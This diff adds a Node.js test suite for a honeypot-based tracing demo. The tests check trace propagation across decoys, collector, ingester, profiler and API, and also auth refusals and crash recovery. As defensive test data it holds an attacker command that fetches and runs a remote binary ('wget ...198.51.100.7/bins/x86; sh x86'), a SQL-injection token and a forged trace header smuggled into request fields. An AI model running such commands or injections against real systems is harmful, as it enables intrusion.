@@ -1,0 +1,505 @@
+// The sample system: real processes, real sockets, a real server. What it is an example of must hold: the four bridges
+// over which a trace crosses processes that share no call, only files and a database.
+
+import assert from 'node:assert/strict';
+import { execFile, spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { appendFile, mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
+import net from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { after, test } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import { promisify } from 'node:util';
+
+import { PUGMARK, Server, randomHex, until } from './lib.mjs';
+
+const DECOYS = process.env.DECOYS ?? fileURLToPath(new URL('../../build/examples/decoys', import.meta.url));
+const DECKIES = { 'web-01': 'http', 'ssh-01': 'ssh', 'telnet-01': 'telnet' };
+const PIPELINE = ['collector', 'ingester', 'profiler', 'correlation', 'api'];
+const SEED_NAMES = [
+  'collector.stream_container', 'collector.event', 'ingester.process_record', 'ingester.extract_bounty',
+  'profiler.incremental_update', 'profiler.update_profiles', 'profiler.process_ip', 'profiler.timing_stats',
+  'profiler.classify_behavior', 'profiler.detect_tools_from_headers', 'profiler.phase_sequence',
+  'profiler.sniffer_rollup', 'profiler.build_behavior_record', 'profiler.behavior_summary',
+  'correlation.ingest_file', 'correlation.ingest_file.summary', 'correlation.traversals', 'correlation.report_json',
+  'correlation.traversal_syslog_lines', 'api.login', 'api.get_logs', 'api.get_logs_histogram', 'api.get_bounties',
+  'api.get_attackers', 'api.get_attacker_detail', 'api.get_attacker_commands', 'api.get_stats', 'api.get_health',
+  'api.stream_events', 'sse.emit_logs'];
+
+// A test that fails leaves nothing running.
+const children = new Set();
+process.on('exit', () => { for (const child of children) child.kill('SIGKILL'); });
+
+/** The processes of one run directory. */
+class System {
+  /** Without a server it is not traced. `without`: names of programs that are not started. */
+  static async start(server, without = []) {
+    const system = new System();
+    system.dir = await mkdtemp(path.join(tmpdir(), 'pugmark-decoys-'));
+    system.env = { ...process.env };
+    delete system.env.PUG_TRACING;
+    if (server) Object.assign(system.env, { PUG_TRACING: 'true', PUG_BACKEND: 'otlp', PUG_OTLP_ENDPOINT: server.endpoints.otlp_http });
+    system.running = new Map();
+    for (const [name, kind] of Object.entries(DECKIES)) system.run(name, 'decoy', '--kind', kind, '--name', name);
+    for (const name of PIPELINE) if (!without.includes(name)) system.run(name, name);
+    system.ports = {};
+    for (const name of [...Object.keys(DECKIES), ...without.includes('api') ? [] : ['api']]) {
+      system.ports[name] = await until(`the port of ${name}`, () =>
+        readFile(path.join(system.dir, 'ports', name), 'utf8').then(Number, () => undefined));
+    }
+    return system;
+  }
+
+  run(name, program, ...args) {
+    const child = spawn(path.join(DECOYS, program), ['--dir', this.dir, ...args], { env: this.env, stdio: ['ignore', 'pipe', 'pipe'] });
+    child.text = '';
+    child.stdout.setEncoding('utf8').on('data', (text) => { child.text += text; });
+    child.stderr.setEncoding('utf8').on('data', (text) => { child.text += text; });
+    child.ended = once(child, 'exit').finally(() => children.delete(child));
+    children.add(child);
+    this.running.set(name, child);
+    return child;
+  }
+
+  async end(name, signal = 'SIGTERM') {
+    const child = this.running.get(name);
+    this.running.delete(name);
+    child.kill(signal);
+    const [code] = await child.ended;
+    if (signal === 'SIGTERM') assert.equal(code, 0, `${name} ended with ${code}: ${child.text}`);
+  }
+
+  /** Ends each with SIGTERM; each must exit 0. What it exported has arrived then. */
+  async stop() {
+    for (const name of [...this.running.keys()]) await this.end(name);
+    await rm(this.dir, { recursive: true });
+  }
+
+  /** One intrusion: {traceId, ip}. */
+  async intrusion() {
+    const driver = this.run('driver', 'driver', '--once');
+    const [code] = await driver.ended;
+    this.running.delete('driver');
+    assert.equal(code, 0, driver.text);
+    const [, traceId, ip] = driver.text.match(/^intrusion (\S+) (\S+)$/m);
+    return { traceId, ip };
+  }
+
+  /** Asks the API as the admin, who logs in first: [status, parsed body]. */
+  async ask(pathname, options = {}) {
+    const base = `http://127.0.0.1:${this.ports.api}`;
+    if (!this.token) {
+      const password = await readFile(path.join(this.dir, 'admin-password'), 'utf8');
+      const login = await fetch(`${base}/auth/login`, { method: 'POST', body: JSON.stringify({ username: 'admin', password }) });
+      this.token = (await login.json()).token;
+    }
+    const response = await fetch(base + pathname, { headers: { authorization: `Bearer ${this.token}` }, ...options });
+    return [response.status, await response.json()];
+  }
+
+  async sql(query) {
+    const { stdout } = await promisify(execFile)('sqlite3', ['-json', '-readonly', path.join(this.dir, 'decoys.db'), query]);
+    return stdout ? JSON.parse(stdout) : [];
+  }
+
+  async records() {
+    const text = await readFile(path.join(this.dir, 'logs.jsonl'), 'utf8');
+    let offset = 0;
+    return text.split('\n').slice(0, -1).flatMap((line) => {
+      const at = offset;
+      offset += Buffer.byteLength(line) + 1;
+      try {
+        return [{ ...JSON.parse(line), at }];
+      } catch { // what a killed collector left half written, or a test put there
+        return [];
+      }
+    });
+  }
+
+  /** Sends bytes from an address of its own; resolves to the answer. */
+  async talk(decky, from, bytes) {
+    const socket = net.connect({ port: this.ports[decky], host: '127.0.0.1', localAddress: from });
+    let answer = '';
+    socket.setEncoding('latin1').on('data', (text) => { answer += text; });
+    socket.end(bytes, 'latin1');
+    await once(socket, 'close');
+    return answer;
+  }
+
+  async rows(count) {
+    return until(`${count} rows`, async () => {
+      const rows = await this.sql('SELECT * FROM logs ORDER BY id').catch(() => []);
+      return rows.length >= count ? rows : undefined;
+    });
+  }
+}
+
+/** The trace as soon as `ready` finds in it what it wants. */
+async function trace(server, traceId, ready) {
+  return until(`trace ${traceId}`, async () => {
+    const response = await fetch(`${server.endpoints.page}/api/pugmark/traces/${traceId}`);
+    if (response.status !== 200) return undefined;
+    const found = await response.json();
+    for (const span of found.spans) span.service = found.resources[span.resource].service;
+    found.by = new Map(found.spans.map((span) => [span.spanId, span]));
+    return ready(found) ? found : undefined;
+  });
+}
+
+const named = (found, name) => found.spans.filter((span) => span.name === name);
+const parentName = (found, span) => found.by.get(span.parentSpanId)?.name;
+const attribute = (span, key) => {
+  const value = span.attributes.find((a) => a.key === key)?.value;
+  return value && Object.values(value)[0];
+};
+const context = (record) => {
+  const [, version, traceId, spanId, flags] = record._trace.traceparent.match(/^(..)-(.{32})-(.{16})-(..)$/);
+  return { version, traceId, spanId, flags };
+};
+
+/** What several tests look at: made by the first that asks, ended after the last. */
+const fixtures = [];
+function fixture(make) {
+  let made;
+  return () => {
+    made ??= make();
+    if (!fixtures.includes(made)) fixtures.push(made);
+    return made;
+  };
+}
+after(async () => {
+  for (const made of fixtures) {
+    const { system, server } = await made;
+    await system.stop();
+    await server.stop();
+  }
+});
+
+/** One intrusion: its attacker's address and its trace, as soon as that is whole. */
+const anIntrusion = fixture(async () => {
+  const server = await Server.start();
+  const system = await System.start(server);
+  const intrusion = await system.intrusion();
+  const found = await trace(server, intrusion.traceId, (t) =>
+    ['driver.scenario', 'profiler.process_ip', 'correlation.traversals', 'api.stream_events', 'api.get_attacker_detail']
+      .every((name) => named(t, name).length) &&
+    t.spans.every((span) => !span.parentSpanId || t.by.has(span.parentSpanId)));
+  return { server, system, intrusion, found };
+});
+
+/** A system that has seen every kind of attacker and user. */
+const aBusySystem = fixture(async () => {
+  const server = await Server.start();
+  const system = await System.start(server);
+  const driver = system.run('driver', 'driver', '--pause-ms', '20');
+  await until('four intrusions', () => (driver.text.match(/^intrusion /gm)?.length >= 4 ? true : undefined), 60_000);
+  await system.end('driver');
+  return { server, system };
+});
+
+test('an intrusion is one trace through every process, with one root and no orphan', async () => {
+  const { found } = await anIntrusion();
+  const services = [...new Set(found.spans.map((span) => span.service))].sort();
+  assert.deepEqual(services, ['api', 'collector', 'correlation', 'decoy', 'driver', 'ingester', 'profiler']);
+  assert.deepEqual(found.spans.filter((span) => !span.parentSpanId).map((span) => span.name), ['driver.scenario']);
+  assert.equal(found.orphanCount, 0);
+  assert.equal(found.by.size, found.spans.length, 'a span came twice');
+});
+
+test('an intrusion crosses from the collector into JSON: _trace is the context of collector.event', async () => {
+  const { system, intrusion, found } = await anIntrusion();
+  const records = (await system.records()).filter((record) => record.attacker_ip === intrusion.ip);
+  assert.equal(records.length, 2);
+  for (const record of records) {
+    const { version, traceId, spanId, flags } = context(record);
+    assert.deepEqual([version, traceId, Number(flags) & 1], ['00', intrusion.traceId, 1]);
+    const span = found.by.get(spanId);
+    assert.equal(span?.name, 'collector.event');
+    assert.equal(attribute(span, 'decky'), record.decky);
+    assert.equal(parentName(found, span), record.service === 'http' ? 'decoy.http_request' : 'decoy.ssh_session');
+  }
+});
+
+test('an intrusion crosses from JSON into the ingester: ingester.process_record is the child of what _trace names', async () => {
+  const { system, intrusion, found } = await anIntrusion();
+  const records = (await system.records()).filter((record) => record.attacker_ip === intrusion.ip);
+  for (const record of records) {
+    const spans = named(found, 'ingester.process_record').filter((span) => span.parentSpanId === context(record).spanId);
+    assert.equal(spans.length, 1);
+    assert.equal(spans[0].service, 'ingester');
+    assert.equal(attribute(spans[0], 'record.offset'), String(record.at));
+  }
+});
+
+test('an intrusion crosses into the database: trace_id and span_id are those of ingester.process_record', async () => {
+  const { system, intrusion, found } = await anIntrusion();
+  const rows = await system.sql(`SELECT * FROM logs WHERE attacker_ip='${intrusion.ip}'`);
+  assert.equal(rows.length, 2);
+  for (const row of rows) {
+    assert.equal(row.trace_id, intrusion.traceId);
+    const span = found.by.get(row.span_id);
+    assert.equal(span?.name, 'ingester.process_record');
+    assert.equal(attribute(span, 'record.offset'), String(row.source_offset));
+    assert.ok(!row.fields.includes('_trace'), 'the context does not belong to the record');
+  }
+});
+
+test('an intrusion crosses from the database to the stream: sse.emit_logs links to the spans that stored the rows', async () => {
+  const { system, intrusion, found } = await anIntrusion();
+  const rows = await system.sql(`SELECT trace_id, span_id FROM logs WHERE attacker_ip='${intrusion.ip}'`);
+  const links = named(found, 'sse.emit_logs').flatMap((span) => span.links.map((link) => `${link.traceId} ${link.spanId}`));
+  for (const row of rows) assert.ok(links.includes(`${row.trace_id} ${row.span_id}`), 'a row was shown without a link');
+  for (const span of named(found, 'sse.emit_logs')) assert.equal(parentName(found, span), 'api.stream_events');
+});
+
+test('an intrusion is worked on by profiler and correlation as children of the rows', async () => {
+  const { intrusion, found } = await anIntrusion();
+  for (const name of ['profiler.process_ip', 'correlation.traversals']) {
+    for (const span of named(found, name)) assert.equal(parentName(found, span), 'ingester.process_record');
+  }
+  const [process] = named(found, 'profiler.process_ip');
+  assert.ok(process.links.some((link) => link.traceId !== intrusion.traceId), 'no link to the round that did it');
+  const inside = new Set(found.spans.filter((span) => parentName(found, span) === 'profiler.build_behavior_record').map((span) => span.name));
+  assert.deepEqual([...inside].sort(), ['profiler.classify_behavior', 'profiler.detect_tools_from_headers',
+    'profiler.phase_sequence', 'profiler.sniffer_rollup', 'profiler.timing_stats']);
+});
+
+test('an intrusion has a span db.<method> around each call of the repository', async () => {
+  const { found } = await anIntrusion();
+  for (const [method, parent] of Object.entries({ add_log: 'ingester.process_record', add_bounty: 'ingester.extract_bounty',
+    upsert_attacker: 'profiler.process_ip', upsert_traversal: 'correlation.traversals', get_user: 'api.login',
+    get_attacker_detail: 'api.get_attacker_detail' })) {
+    assert.ok(named(found, `db.${method}`).some((span) => parentName(found, span) === parent), `db.${method} under ${parent}`);
+  }
+});
+
+test('an intrusion has children inside their parents where one process called the next and waited', async () => {
+  const { found } = await anIntrusion();
+  for (const [child, parent] of [['decoy.http_request', 'driver.attack_http'], ['api.login', 'driver.api_request']]) {
+    for (const span of named(found, child)) {
+      const above = found.by.get(span.parentSpanId);
+      assert.equal(above.name, parent);
+      assert.ok(BigInt(span.startUnixNano) >= BigInt(above.startUnixNano), `${child} begins before ${parent}`);
+    }
+  }
+  assert.deepEqual(new Set(named(found, 'decoy.http_request').map((span) => span.kind)), new Set(['SERVER']));
+  assert.deepEqual(new Set(named(found, 'driver.attack_http').map((span) => span.kind)), new Set(['CLIENT']));
+});
+
+test('the sample system uses the seed\'s span names, and no others in their families', async () => {
+  const { server, system } = await aBusySystem();
+  await system.talk('web-01', '127.9.9.9', 'GET / HTTP/1.1\r\n\r\n');
+  const names = await until('every program to have exported', async () => {
+    const { operations } = await server.get('/api/pugmark/operations');
+    const found = new Set(operations.map((operation) => operation.name));
+    // Nobody asked for an attacker's commands.
+    return SEED_NAMES.every((name) => found.has(name) || name === 'api.get_attacker_commands') ? found : undefined;
+  });
+  const families = /^(api|collector|ingester|profiler|correlation|sse)\./;
+  assert.deepEqual([...names].filter((name) => families.test(name) && !SEED_NAMES.includes(name)), []);
+});
+
+test('the sample system shows users what came in', async () => {
+  const { system } = await aBusySystem();
+  const [status, attackers] = await system.ask('/attackers?limit=100');
+  assert.equal(status, 200);
+  const robot = attackers.find((attacker) => attacker.summary?.furthest_phase === 'delivery');
+  assert.equal(robot.summary.class, 'interactive');
+  const [, commands] = await system.ask(`/attackers/${robot.uuid}/commands`);
+  assert.deepEqual(commands.map((row) => row.command).sort(), ['id', 'uname -a', 'wget http://198.51.100.7/bins/x86; sh x86']);
+  const [, logs] = await system.ask('/logs?limit=1000');
+  const [, histogram] = await system.ask('/logs/histogram?interval=3600');
+  const [, stats] = await system.ask('/stats');
+  assert.equal(stats.logs, logs.length);
+  assert.equal(histogram.reduce((sum, bucket) => sum + bucket.count, 0), logs.length);
+  const [, found] = await system.ask('/logs?search=gobuster&limit=3');
+  assert.deepEqual(found.map((row) => row.fields.user_agent), Array(3).fill('gobuster/3.6'));
+  const [, bounties] = await system.ask('/bounty');
+  assert.deepEqual(bounties.find((row) => row.type === 'payload').payload, { url: 'http://198.51.100.7/bins/x86' });
+  assert.deepEqual(await system.ask('/attackers?ip=127.255.255.254'), [200, []]);
+});
+
+test('the sample system refuses what is not allowed, not there, or not well said', async () => {
+  const { system } = await aBusySystem();
+  const nobody = { headers: {} }, post = (body) => ({ method: 'POST', headers: {}, body });
+  for (const [expected, ...call] of [
+    [401, '/stats', nobody], [401, '/stream', nobody], [401, '/stats', { headers: { authorization: 'Bearer x\' OR 1=1 --' } }],
+    [401, '/auth/login', post('{"username":"admin","password":"admin"}')],
+    [401, '/auth/login', post('{"username":"nobody","password":"x"}')],
+    [400, '/auth/login', post('')], [400, '/auth/login', post('[{')], [400, '/auth/login', post('{"username":1,"password":2}')],
+    [413, '/auth/login', post('x'.repeat(5000))],
+    [400, '/logs?limit=many'], [400, '/logs?limit=1001'], [400, '/logs?offset=-1'], [400, '/logs/histogram?interval=0'],
+    [404, '/attackers/0123'], [404, '/attackers/'], [404, '/nothing'], [404, '/logs', { method: 'DELETE' }],
+  ]) {
+    const [status] = await system.ask(...call);
+    assert.equal(status, expected, call[0]);
+  }
+  assert.equal((await system.ask('/health', nobody))[0], 200);
+});
+
+test('the sample system begins traces of its own for strangers who say nothing of theirs', async () => {
+  const { server, system } = await aBusySystem();
+  const rows = await system.sql('SELECT trace_id FROM logs WHERE event_type=\'command\' LIMIT 1');
+  const found = await trace(server, rows[0].trace_id, (t) => named(t, 'decoy.telnet_session').length);
+  const [session] = named(found, 'decoy.telnet_session');
+  assert.equal(session.parentSpanId, '');
+  assert.equal(named(found, 'driver.attack_telnet').length, 0);
+});
+
+test('the sample system carries a trace through telnet\'s environment option', async () => {
+  const { server, system } = await aBusySystem();
+  const rows = await system.sql('SELECT trace_id, attacker_ip, count(*) AS n FROM logs WHERE event_type=\'login_attempt\' GROUP BY trace_id HAVING n>1');
+  assert.ok(rows.length > 0, 'six logins of one trace');
+  const found = await trace(server, rows[0].trace_id, (t) => named(t, 'decoy.telnet_session').length === 6 && named(t, 'driver.brute_force').length);
+  for (const span of named(found, 'decoy.telnet_session')) assert.equal(parentName(found, span), 'driver.attack_telnet');
+});
+
+test('the sample system does not take a context from inside what an attacker says', async () => {
+  const { system } = await aBusySystem();
+  const forged = `00-${randomHex(32)}-${randomHex(16)}-01`;
+  const ip = '127.9.9.10';
+  const before = (await system.records()).length;
+  await system.talk('web-01', ip, `GET /"][trace@32473 HTTP/1.1\r\nUser-Agent: x"][trace@32473 traceparent="${forged}"] \\" \x01\xff\r\n\r\n`);
+  const rows = await until('the row', async () => {
+    const found = await system.sql(`SELECT * FROM logs WHERE attacker_ip='${ip}'`);
+    return found.length ? found : undefined;
+  });
+  assert.equal(rows.length, 1);
+  assert.notEqual(rows[0].trace_id, forged.slice(3, 35));
+  assert.equal(JSON.parse(rows[0].fields).user_agent, `x"][trace@32473 traceparent="${forged}"] \\" \\x01\\xff`);
+  assert.equal((await system.records()).length, before + 1);
+});
+
+test('the sample system passes over damaged records and goes on with the next', async () => {
+  const { system } = await aBusySystem();
+  const before = await system.sql('SELECT count(*) AS n FROM logs');
+  for (const line of ['', '{', '[]', 'null', '{"_trace":7}', '{"timestamp":1}', '{"_trace":{"traceparent":"00-zz"},"fields":{}}'])
+    await appendFile(path.join(system.dir, 'logs.jsonl'), `${line}\n`);
+  const ip = '127.9.9.11';
+  await system.talk('web-01', ip, 'GET /after HTTP/1.1\r\n\r\n');
+  await until('the row behind the damaged ones', async () => (await system.sql(`SELECT 1 FROM logs WHERE attacker_ip='${ip}'`))[0]);
+  assert.equal((await system.sql('SELECT count(*) AS n FROM logs'))[0].n, before[0].n + 1);
+});
+
+test('work on rows of several traces links to all of them and is the child of none', async () => {
+  const server = await Server.start();
+  const system = await System.start(server, ['profiler', 'correlation', 'api']);
+  const ip = '127.8.8.8', traces = [randomHex(32), randomHex(32)];
+  for (const traceId of traces)
+    await system.talk('web-01', ip, `GET / HTTP/1.1\r\ntraceparent: 00-${traceId}-${randomHex(16)}-01\r\n\r\n`);
+  const rows = await system.rows(2);
+  assert.deepEqual(rows.map((row) => row.trace_id).sort(), [...traces].sort());
+  system.run('profiler', 'profiler');
+  system.run('correlation', 'correlation');
+  for (const name of ['profiler.process_ip', 'correlation.traversals']) {
+    const traceId = await until(`a trace with ${name}`, async () => {
+      const { traces: found } = await server.get(`/api/pugmark/search?operation=${name}`);
+      return found[0]?.traceId;
+    });
+    assert.ok(!traces.includes(traceId), `${name} took sides`);
+    const found = await trace(server, traceId, (t) => named(t, name).length);
+    const [span] = named(found, name);
+    assert.deepEqual(span.links.map((link) => `${link.traceId} ${link.spanId}`).sort(),
+      rows.map((row) => `${row.trace_id} ${row.span_id}`).sort());
+  }
+  await system.stop();
+  await server.stop();
+});
+
+test('without tracing nothing is injected, stored or exported, and the work is done', async () => {
+  const server = await Server.start();
+  const system = await System.start(null);
+  system.env.PUG_OTLP_ENDPOINT = server.endpoints.otlp_http;
+  const { traceId, ip } = await system.intrusion();
+  assert.equal(traceId, '-');
+  assert.ok((await system.records()).every((record) => !('_trace' in record)));
+  const rows = await system.sql('SELECT * FROM logs');
+  assert.equal(rows.length, 2);
+  assert.ok(rows.every((row) => row.trace_id === null && row.span_id === null));
+  assert.equal((await system.sql(`SELECT count(*) AS n FROM attackers WHERE ip='${ip}'`))[0].n, 1);
+  for (const name of Object.keys(DECKIES))
+    assert.ok(!(await readFile(path.join(system.dir, 'containers', `${name}.log`), 'utf8')).includes('[trace@'));
+  await system.stop();
+  assert.deepEqual(await server.get('/api/pugmark/services'), { services: [] });
+  await server.stop();
+});
+
+test('collector and ingester, killed over and over, neither lose nor repeat a line', async () => {
+  const system = await System.start(null, ['profiler', 'correlation', 'api']);
+  const lines = 300;
+  let sent = 0, talking = true;
+  const load = (async () => {
+    while (sent < lines) {
+      await system.talk('web-01', '127.7.7.7', `GET /${sent++} HTTP/1.1\r\n\r\n`);
+    }
+    talking = false;
+  })();
+  let kills = 0;
+  while (talking || kills < 6) {
+    for (const name of ['ingester', 'collector']) {
+      await new Promise((resolve) => { setTimeout(resolve, 5 + Math.random() * 60); });
+      await system.end(name, 'SIGKILL');
+      system.run(name, name);
+      kills++;
+    }
+  }
+  await load;
+  await system.rows(lines);
+  const records = await system.records();
+  assert.deepEqual(records.map((record) => record.fields.path), Array.from({ length: lines }, (_, i) => `/${i}`));
+  const rows = await system.sql('SELECT source_offset, fields FROM logs ORDER BY source_offset');
+  assert.deepEqual(rows.map((row) => row.source_offset), records.map((record) => record.at));
+  assert.deepEqual(rows.map((row) => JSON.parse(row.fields).path), records.map((record) => record.fields.path));
+  await system.stop();
+});
+
+const ours = async (scratch) => {
+  const found = [];
+  for (const pid of (await readdir('/proc')).filter((name) => /^\d+$/.test(name))) {
+    const words = await readFile(`/proc/${pid}/cmdline`, 'utf8').catch(() => '');
+    if (words.includes(scratch)) found.push(words.replaceAll('\0', ' '));
+  }
+  return found;
+};
+
+test('pugmark demo --once shows a whole trace with the address of the page, and leaves nothing behind', async () => {
+  const scratch = await mkdtemp(path.join(tmpdir(), 'pugmark-demo-test-'));
+  const { stdout } = await promisify(execFile)(PUGMARK, ['demo', '--once'], { env: { ...process.env, TMPDIR: scratch } });
+  assert.match(stdout, /^The page: +http:\/\/127\.0\.0\.1:\d+$/m);
+  assert.match(stdout, /\/trace\/[0-9a-f]{32}$/m);
+  for (const name of ['driver.scenario', 'decoy.http_request', 'collector.event', 'ingester.process_record', 'db.add_log',
+    'profiler.process_ip', 'correlation.traversals', 'api.get_attacker_detail', 'sse.emit_logs'])
+    assert.ok(stdout.includes(name), `${name} is not in the waterfall:\n${stdout}`);
+  assert.deepEqual(await ours(scratch), []);
+  assert.deepEqual(await readdir(scratch), []);
+  await rm(scratch, { recursive: true });
+});
+
+test('pugmark demo goes on until it is interrupted, and ends what it started', async () => {
+  const scratch = await mkdtemp(path.join(tmpdir(), 'pugmark-demo-test-'));
+  const child = spawn(PUGMARK, ['demo'], { env: { ...process.env, TMPDIR: scratch }, stdio: ['ignore', 'pipe', 'inherit'] });
+  const ended = once(child, 'exit');
+  let text = '';
+  child.stdout.setEncoding('utf8').on('data', (more) => { text += more; });
+  await until('the demo to say how it ends', () => (text.includes('Ctrl-C') ? true : undefined), 30_000);
+  const page = text.match(/^The page: +(\S+)$/m)[1];
+  assert.equal((await fetch(`${page}/healthz`)).status, 200);
+  assert.equal((await ours(scratch)).length, 10);
+  child.kill('SIGINT');
+  assert.deepEqual(await ended, [0, null]);
+  assert.deepEqual(await ours(scratch), []);
+  assert.deepEqual(await readdir(scratch), []);
+  await rm(scratch, { recursive: true });
+});
+
+test('pugmark demo takes its programs with it when it is killed', async () => {
+  const scratch = await mkdtemp(path.join(tmpdir(), 'pugmark-demo-test-'));
+  const child = spawn(PUGMARK, ['demo'], { env: { ...process.env, TMPDIR: scratch }, stdio: ['ignore', 'pipe', 'inherit'] });
+  const ended = once(child, 'exit');
+  await until('the sample system to run', async () => ((await ours(scratch)).length === 10 ? true : undefined), 30_000);
+  child.kill('SIGKILL');
+  await ended;
+  await until('everything to end', async () => ((await ours(scratch)).length === 0 ? true : undefined));
+  await rm(scratch, { recursive: true });
+});
